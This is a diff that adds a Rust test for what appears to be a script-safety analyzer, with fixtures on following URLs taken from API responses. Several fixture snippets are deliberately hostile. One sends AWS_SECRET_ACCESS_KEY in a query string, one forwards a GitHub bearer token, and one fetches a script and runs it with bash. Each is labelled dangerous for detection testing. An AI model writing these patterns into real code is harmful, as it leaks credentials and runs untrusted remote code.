@@ -5069,6 +5069,79 @@ fn requests_that_send_nothing_and_verified_downloads() {
     check_all(rows);
 }
 
+/// A request that sends nothing the script holds to a URL an earlier response gave (a PR's
+/// `patch_url`, the `next` page, a redirect's `Location`) follows a pointer of the server the
+/// script asked: clean when every host the script names itself is on the allow list and no
+/// download is stored unverified. A token or the script's data sent along, a pointer from a
+/// host not on the list, a stored download or a run one stays a finding.
+#[test]
+fn requests_to_urls_a_response_gave() {
+    let rows: &[(Language, &str, Verdict, &str)] = &[
+        (
+            Js,
+            "const res = await fetch('https://api.github.com/repos/o/r/pulls?state=open');\n\
+             for (const pr of await res.json()) {\n\
+             \x20 const patch = await fetch(pr.patch_url);\n\
+             \x20 console.log((await patch.text()).split('\\n').length);\n}\n",
+            Clean,
+            "",
+        ),
+        (
+            Py,
+            "import requests\nr = requests.get('https://api.github.com/repos/o/r/pulls', timeout=30)\n\
+             for pr in r.json():\n    print(len(requests.get(pr['diff_url'], timeout=30).text))\n",
+            Clean,
+            "",
+        ),
+        // The token goes along to wherever the response pointed.
+        (
+            Js,
+            "const token = process.env.GITHUB_TOKEN;\nconst h = { Authorization: `Bearer ${token}` };\n\
+             const res = await fetch('https://api.github.com/repos/o/r/pulls', { headers: h });\n\
+             for (const pr of await res.json()) {\n\
+             \x20 const patch = await fetch(pr.patch_url, { headers: h });\n\
+             \x20 console.log((await patch.text()).length);\n}\n",
+            Dangerous,
+            "exfiltration",
+        ),
+        // The script's data in the pointed-to URL.
+        (
+            Py,
+            "import os, requests\nr = requests.get('https://api.github.com/repos/o/r/pulls', timeout=30)\n\
+             for pr in r.json():\n    requests.get(pr['url'] + '?u=' + os.environ['AWS_SECRET_ACCESS_KEY'])\n",
+            Dangerous,
+            "exfiltration",
+        ),
+        // A pointer from a host not on the allow list.
+        (
+            Py,
+            "import requests\nr = requests.get('http://index.example-mirror.net/list.json', timeout=30)\n\
+             for link in r.json()['links']:\n    print(len(requests.get(link, timeout=30).content))\n",
+            Suspicious,
+            "network",
+        ),
+        // What it points to stored unverified.
+        (
+            Py,
+            "import requests\nr = requests.get('https://api.github.com/repos/o/r/releases/latest', timeout=30)\n\
+             asset = r.json()['assets'][0]['browser_download_url']\n\
+             with open('dist/tool.tar.gz', 'wb') as fh:\n    fh.write(requests.get(asset, timeout=30).content)\n",
+            Suspicious,
+            "network",
+        ),
+        // ... or run.
+        (
+            Py,
+            "import subprocess, requests\nr = requests.get('https://api.github.com/repos/o/r/releases/latest', timeout=30)\n\
+             script = requests.get(r.json()['body_url'], timeout=30).text\n\
+             subprocess.run(['bash', '-c', script])\n",
+            Dangerous,
+            "remote-code",
+        ),
+    ];
+    check_all(rows);
+}
+
 #[test]
 fn a_helper_called_with_several_urls_of_this_machine() {
     use Language::{JavaScript as Js, Python as Py};
